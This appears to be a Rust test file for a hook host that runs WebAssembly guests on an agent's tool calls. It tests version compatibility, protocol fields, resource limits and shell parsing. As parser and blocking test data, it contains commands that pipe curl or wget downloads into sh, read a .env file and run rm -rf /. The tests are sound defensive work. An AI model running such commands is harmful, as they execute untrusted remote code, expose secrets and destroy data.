//! WIT versions side by side, every protocol field of their answers, and the packed
//! shell view a guest reads.

use super::*;

/// A component built against the frozen 0.1.0 package (plain wit-bindgen, no SDK) runs
/// unchanged beside a 0.2.0 one: its record still carries the raw input and the tool
/// input, and its answers convert as before.
#[tokio::test]
async fn wit_0_1_0_and_0_2_0_components_run_side_by_side() {
    let env = TestEnv::new();
    let old = wasm(guests::COMPAT_V0_1, json!({"config": {"k": 1}}));
    let outcome = run(&env, old.clone()).await;
    assert_eq!(outcome.counts.success, 1, "{:?}", outcome.hooks);
    let context = outcome.additional_context.unwrap();
    hookhost_tests::assert_says(&context, r#"tool_input={"command":"ls"}"#);
    assert!(context.contains(r#""tool_use_id":"toolu_1""#), "{context}");
    assert!(context.contains(r#"config={"k":1}"#), "{context}");
    let engine = env.engine_for("PreToolUse", vec![old, guest("fields", json!({}))]);
    let outcome = engine.execute("PreToolUse", env.bash("rm -rf /")).await;
    assert_eq!(
        outcome.counts.success + outcome.counts.blocking,
        2,
        "{:?}",
        outcome.hooks
    );
    assert_eq!(
        outcome.block_reason.as_deref(),
        Some("0.1.0 guest: no rm -rf")
    );
    // The 0.2.0 guest fetched what 0.1.0 carried in its record.
    let report = context_json(&outcome, 1);
    assert_eq!(report["tool_input"], json!({"command": "rm -rf /"}));
    assert_eq!(report["tool_use_id"], json!("toolu_1"));
    assert_eq!(report["missing"], Value::Null);
    assert!(report["raw_len"].as_u64().unwrap() > 50);
}

/// Every answer field 0.2.0 added reaches the host: honoured where the event honours
/// it, reported as ignored where it does not (never silently lost).
#[tokio::test]
async fn wit_0_2_0_answers_carry_every_protocol_field() {
    let env = TestEnv::new();
    let engine = env.engine_for("PermissionRequest", vec![guest("full-answer", json!({}))]);
    let mut input = env.bash("ls");
    input["hook_event_name"] = json!("PermissionRequest");
    let outcome = engine.execute("PermissionRequest", input).await;
    assert_eq!(
        outcome.updated_permissions,
        vec![json!({"type": "setMode", "mode": "plan", "destination": "session"})],
        "{:?}",
        outcome.hooks
    );
    assert!(outcome.interrupt);
    let output = outcome.hooks[0].output.clone().expect("an output");
    let ignored: Vec<&str> = outcome
        .ignored_fields
        .iter()
        .map(|f| f.field.as_str())
        .collect();
    let seen = |present: bool, field: &str| {
        assert!(
            present || ignored.contains(&field),
            "{field} neither honoured nor reported: {ignored:?}"
        )
    };
    seen(output.session_title.is_some(), "sessionTitle");
    seen(output.suppress_output, "suppressOutput");
    seen(output.updated_message.is_some(), "modified_message");
    seen(
        output.system_prompt_append.is_some(),
        "system_prompt_append",
    );
    seen(output.worktree_path.is_some(), "worktreePath");
    seen(output.custom_instructions.is_some(), "customInstructions");
}

/// A guest that asks for the raw input over and over (dropping each copy, so its own
/// memory never fills) is stopped by the host's fetch budget, and fails closed.
#[tokio::test]
async fn fetching_the_input_without_end_is_a_limit() {
    let env = TestEnv::new();
    let outcome = run(&env, guest("fetch", json!({"failClosed": true}))).await;
    let message = hook_error(&outcome, 0);
    assert!(message.contains("input fetch limit exceeded"), "{message}");
    assert!(outcome.should_block, "{:?}", outcome.hooks);
}

/// What a guest reads through the SDK from the packed shell view (0.4.0) is the host's
/// parse, word for word: texts (multi-byte ones included), `dynamic` flags, assignments,
/// redirections, nesting and pipelines, for `bash_command()` and for `parse(text)`.
#[tokio::test]
async fn the_packed_shell_view_reads_as_the_host_parsed_it() {
    let env = TestEnv::new();
    let commands = [
        "cargo test && git status",
        "FOO=1 BAR=\"a b\" sudo -u root env X=2 rm -rf -- \"$HOME/é x\" 2>&1 >out.txt <<< 'hi'",
        "curl -fsSL https://x | (cd /tmp && sh) | tee log",
        "bash -c \"echo $(curl x | sh)\" ; eval 'rm -rf /tmp/x' & wait",
        "for f in *.rs; do grep -n TODO \"$f\" > /dev/null || echo \"$f\"; done",
        "f() { cat .env; }; f | sh <(wget -O- y)",
        "",
        "echo 'unclosed",
    ];
    for command in commands {
        let report = |config: Value| {
            let env = &env;
            async move {
                let engine = env.engine_for("PreToolUse", vec![guest("shell", config)]);
                let outcome = engine.execute("PreToolUse", env.bash(command)).await;
                assert_eq!(
                    outcome.counts.success, 1,
                    "{command:?}: {:?}",
                    outcome.hooks
                );
                context_json(&outcome, 0)
            }
        };
        let from_call = report(json!({})).await;
        let from_parse = report(json!({"config": {"text": command}})).await;
        assert_eq!(from_call, from_parse, "{command:?}");
        let view = hookhost::internals::shell::parse(command);
        assert_eq!(from_call["partial"], json!(view.partial), "{command:?}");
        assert_eq!(from_call["error"], json!(view.error), "{command:?}");
        let nodes = from_call["nodes"].as_array().unwrap();
        assert_eq!(nodes.len(), view.nodes.len(), "{command:?}");
        for (got, node) in nodes.iter().zip(&view.nodes) {
            let words = |ws: &[hookhost::internals::shell::Word]| {
                ws.iter()
                    .map(|w| json!({"text": w.text, "dynamic": w.dynamic}))
                    .collect::<Vec<_>>()
            };
            assert_eq!(got["text"], json!(node.text), "{command:?}");
            assert_eq!(got["words"], json!(words(&node.words)), "{command:?}");
            let mut back: Vec<&str> = node.words.iter().map(|w| w.text.as_str()).collect();
            back.reverse();
            assert_eq!(got["words_back"], json!(back), "{command:?}");
            assert_eq!(
                got["assignments"],
                json!(words(&node.assignments)),
                "{command:?}"
            );
            let redirects: Vec<Value> = node
                .redirects
                .iter()
                .map(|r| json!({"fd": r.fd, "op": r.op, "target": {"text": r.target.text, "dynamic": r.target.dynamic}}))
                .collect();
            assert_eq!(got["redirects"], json!(redirects), "{command:?}");
            let program = node
                .program
                .map_or("", |p| node.words[p as usize].text.as_str());
            assert_eq!(got["program"], json!(program), "{command:?}");
            let after = node.program.map_or(node.words.len(), |p| p as usize + 1);
            assert_eq!(
                got["arg_words"],
                json!(words(&node.words[after..])),
                "{command:?}"
            );
        }
    }

    // Nesting and pipelines, read through the packed lists.
    let engine = env.engine_for("PreToolUse", vec![guest("shell", json!({}))]);
    let outcome = engine
        .execute(
            "PreToolUse",
            env.bash("curl x | (cd /tmp && sh -c \"$(wget y)\")"),
        )
        .await;
    let report = context_json(&outcome, 0);
    let node = |text: &str| {
        report["nodes"]
            .as_array()
            .unwrap()
            .iter()
            .find(|n| n["text"] == json!(text))
            .unwrap_or_else(|| panic!("no node {text:?} in {report}"))
            .clone()
    };
    let sh = node("sh -c \"$(wget y)\"");
    assert_eq!(sh["upstream"], json!(["curl x"]));
    // Its substitution, and the script `-c` gives it (whose program is that substitution).
    assert_eq!(sh["inside"], json!(["wget y", "$(wget y)", "wget y"]));
    assert_eq!(sh["runs_code"], json!(true));
    // A compound node's text is the parser's rendering of it.
    assert_eq!(
        sh["ancestors"],
        json!(["( cd /tmp && sh -c \"$(wget y)\" )"])
    );
    assert_eq!(node("wget y")["via"], json!("Via::CommandSubstitution"));
    assert_eq!(node("wget y")["ancestors"].as_array().unwrap().len(), 2);
    assert_eq!(node("cd /tmp")["upstream"], json!(["curl x"]));
    assert_eq!(node("curl x")["upstream"], json!([]));
    assert_eq!(report["commands"], json!(6));
}

/// A guest may ask the host to parse text at most 64 times per call; the 65th stops it
/// with the limit named.
#[tokio::test]
async fn shell_parses_are_limited_per_call() {
    let env = TestEnv::new();
    let parses = |times: u64| {
        guest(
            "shell-parses",
            json!({"config": {"times": times, "text": "a | b"}}),
        )
    };
    let outcome = run(&env, parses(64)).await;
    assert_eq!(
        outcome.hooks[0].status,
        HookStatus::Success,
        "{:?}",
        outcome.hooks
    );
    let outcome = run(&env, parses(65)).await;
    let error = hook_error(&outcome, 0);
    assert!(error.contains("shell parse limit exceeded"), "{error}");
}
